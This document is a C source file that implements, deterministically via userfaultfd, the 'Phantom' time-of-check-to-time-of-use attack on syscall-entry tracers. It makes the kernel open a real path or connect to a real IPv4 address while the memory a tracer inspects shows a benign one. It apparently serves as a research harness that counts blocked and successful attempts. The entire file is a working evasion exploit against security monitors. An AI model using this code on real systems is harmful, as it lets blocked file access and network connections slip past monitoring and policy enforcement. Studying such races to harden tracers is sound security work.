// SPDX-License-Identifier: GPL-2.0
/*
 * The Phantom TOCTTOU attack on syscall-entry tracers, staged deterministically.
 *
 *   phantom open    REAL_PATH  BENIGN_PATH  ITERATIONS
 *   phantom connect REAL_IP:PORT BENIGN_IP:PORT ITERATIONS   (IPv4)
 *
 * The argument straddles two pages that userfaultfd leaves missing. The
 * kernel's copy faults on the first page: the handler supplies the real
 * argument's head. The copy goes on into the second page and faults again:
 * by then the kernel holds the head, so the handler rewrites the first page
 * to the benign head and only then supplies the tail that both share. The
 * kernel has acted on the real argument; user memory says the benign one
 * ever after, which is all a tracer reading it at sys_enter (page missing:
 * unreadable) or sys_exit can see.
 *
 * Words read across the page boundary would mix the two heads, so the
 * shared tail starts at least a word before the boundary.
 *
 * It waits for a line on standard input before it starts, so that a tracer
 * can be attached to its pid first. Then it prints one JSON line:
 * {"iterations": N, "eperm": n, "succeeded": n, "other": n}.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/eventfd.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#define WORD sizeof(unsigned long) /* what strncpy_from_user reads at once */
#define TAIL_ON_SECOND_PAGE 4       /* bytes of the shared tail the second fault supplies */

struct staging {
	long page;
	int uffd;
	int stop;                    /* eventfd: the main thread is done, the handler returns */
	const unsigned char *real;   /* the argument the kernel must see */
	const unsigned char *benign; /* what user memory shows afterwards */
	size_t len;
	size_t head;                 /* bytes on the first page */
	unsigned char *area;         /* two pages, registered missing */
};

static void die(const char *what)
{
	perror(what);
	exit(2);
}

#define PAGE_MAX 65536
/* The handler's staging page: static, so the handler thread never calls malloc (whose
 * first call in a thread opens /proc files, system calls a tracer would count). */
static unsigned char staging_page[PAGE_MAX] __attribute__((aligned(PAGE_MAX)));

static void supply(struct staging *s, unsigned char *page_addr, const unsigned char *content, size_t at, size_t n)
{
	struct uffdio_copy copy = { .dst = (uintptr_t)page_addr, .src = (uintptr_t)staging_page, .len = s->page };

	memset(staging_page, 0, s->page);
	memcpy(staging_page + at, content, n);
	if (ioctl(s->uffd, UFFDIO_COPY, &copy) < 0)
		die("UFFDIO_COPY");
}

/*
 * The fault handler: head of the real argument first; on the second fault, rewrite, then the tail.
 * It returns when the main thread signals `stop`, and the main thread joins it before it
 * exits: a handler still reading the uffd while the process tears down is not an error of
 * the attack, and must not print one.
 */
static void *handle_faults(void *arg)
{
	struct staging *s = arg;
	struct uffd_msg msg;
	struct pollfd pfd[2] = { { .fd = s->uffd, .events = POLLIN }, { .fd = s->stop, .events = POLLIN } };

	for (;;) {
		if (poll(pfd, 2, -1) < 0) {
			if (errno == EINTR)
				continue;
			die("poll");
		}
		if (pfd[1].revents)
			return NULL;
		if (!(pfd[0].revents & POLLIN))
			continue;
		if (read(s->uffd, &msg, sizeof(msg)) != sizeof(msg)) {
			if (errno == EAGAIN || errno == EINTR)
				continue;
			die("read uffd");
		}
		if (msg.event != UFFD_EVENT_PAGEFAULT)
			continue;
		unsigned char *first = s->area, *second = s->area + s->page;
		unsigned char *fault = (unsigned char *)(uintptr_t)(msg.arg.pagefault.address & ~(s->page - 1));

		if (fault == first) {
			supply(s, first, s->real, s->page - s->head, s->head);
		} else {
			memcpy(first + s->page - s->head, s->benign, s->head);   /* the kernel already copied it */
			supply(s, second, s->real + s->head, 0, s->len - s->head);
		}
	}
	return NULL;
}

static void stage(struct staging *s)
{
	struct uffdio_register reg = { .mode = UFFDIO_REGISTER_MODE_MISSING };

	s->area = mmap(NULL, 2 * s->page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (s->area == MAP_FAILED)
		die("mmap");
	reg.range.start = (uintptr_t)s->area;
	reg.range.len = 2 * s->page;
	if (ioctl(s->uffd, UFFDIO_REGISTER, &reg) < 0)
		die("UFFDIO_REGISTER");
}

static void unstage(struct staging *s)
{
	struct uffdio_range range = { .start = (uintptr_t)s->area, .len = 2 * s->page };

	if (ioctl(s->uffd, UFFDIO_UNREGISTER, &range) < 0)
		die("UFFDIO_UNREGISTER");
	munmap(s->area, 2 * s->page);
}

static int parse_inet(const char *text, struct sockaddr_in *out)
{
	char host[64];
	const char *colon = strrchr(text, ':');

	if (!colon || colon - text >= (long)sizeof(host))
		return -1;
	memcpy(host, text, colon - text);
	host[colon - text] = '\0';
	memset(out, 0, sizeof(*out));
	out->sin_family = AF_INET;
	out->sin_port = htons(atoi(colon + 1));
	return inet_pton(AF_INET, host, &out->sin_addr) == 1 ? 0 : -1;
}

int main(int argc, char **argv)
{
	struct staging s = { .page = sysconf(_SC_PAGESIZE) };
	struct uffdio_api api = { .api = UFFD_API };
	struct sockaddr_in real_in, benign_in;
	long eperm = 0, succeeded = 0, other = 0, iterations;
	bool is_open;
	pthread_t handler;

	if (s.page > PAGE_MAX)
		return 2;
	if (argc != 5 || (strcmp(argv[1], "open") && strcmp(argv[1], "connect"))) {
		fprintf(stderr, "usage: %s open|connect REAL BENIGN ITERATIONS\n", argv[0]);
		return 2;
	}
	is_open = !strcmp(argv[1], "open");
	iterations = atol(argv[4]);
	if (is_open) {
		size_t shared = 0;

		s.real = (const unsigned char *)argv[2];
		s.benign = (const unsigned char *)argv[3];
		s.len = strlen(argv[2]) + 1;
		if (s.len != strlen(argv[3]) + 1) {
			fprintf(stderr, "REAL and BENIGN must be as long as each other\n");
			return 2;
		}
		while (shared < s.len && s.real[s.len - 1 - shared] == s.benign[s.len - 1 - shared])
			shared++;
		if (shared < WORD + TAIL_ON_SECOND_PAGE) {
			fprintf(stderr, "REAL and BENIGN must end in the same %zu bytes\n", WORD + TAIL_ON_SECOND_PAGE - 1);
			return 2;
		}
		s.head = s.len - TAIL_ON_SECOND_PAGE;
	} else {
		if (parse_inet(argv[2], &real_in) || parse_inet(argv[3], &benign_in)) {
			fprintf(stderr, "addresses are IPv4 HOST:PORT\n");
			return 2;
		}
		s.real = (const unsigned char *)&real_in;
		s.benign = (const unsigned char *)&benign_in;
		s.len = sizeof(real_in);
		s.head = offsetof(struct sockaddr_in, sin_zero); /* family, port, address; the zeros are shared */
	}

	/* non-blocking: poll() on a blocking userfaultfd reports POLLERR at once on older kernels */
	s.uffd = syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
	if (s.uffd < 0)
		die("userfaultfd");
	if (ioctl(s.uffd, UFFDIO_API, &api) < 0)
		die("UFFDIO_API");
	s.stop = eventfd(0, EFD_CLOEXEC);
	if (s.stop < 0)
		die("eventfd");
	if (pthread_create(&handler, NULL, handle_faults, &s))
		die("pthread_create");
	/* past the dynamic loader's opens: a tracer attached from here on sees only the race's */
	printf("ready\n");
	fflush(stdout);
	if (getchar() == EOF)
		return 2;

	for (long i = 0; i < iterations; i++) {
		int ret, fd = -1;

		stage(&s);
		void *arg = s.area + s.page - s.head;
		if (is_open) {
			ret = fd = openat(AT_FDCWD, arg, O_RDONLY);
		} else {
			fd = socket(AF_INET, SOCK_STREAM, 0);
			if (fd < 0)
				die("socket");
			ret = connect(fd, arg, s.len);
		}
		if (ret >= 0)
			succeeded++;
		else if (errno == EPERM)
			eperm++;
		else
			other++;
		if (fd >= 0)
			close(fd);
		if (memcmp(arg, s.benign, s.len))
			fprintf(stderr, "iteration %ld: memory does not show the benign argument\n", i);
		unstage(&s);
	}
	if (eventfd_write(s.stop, 1) < 0)
		die("eventfd_write");
	if (pthread_join(handler, NULL))
		die("pthread_join");
	close(s.uffd);
	printf("{\"iterations\": %ld, \"eperm\": %ld, \"succeeded\": %ld, \"other\": %ld}\n", iterations, eperm,
	       succeeded, other);
	return 0;
}
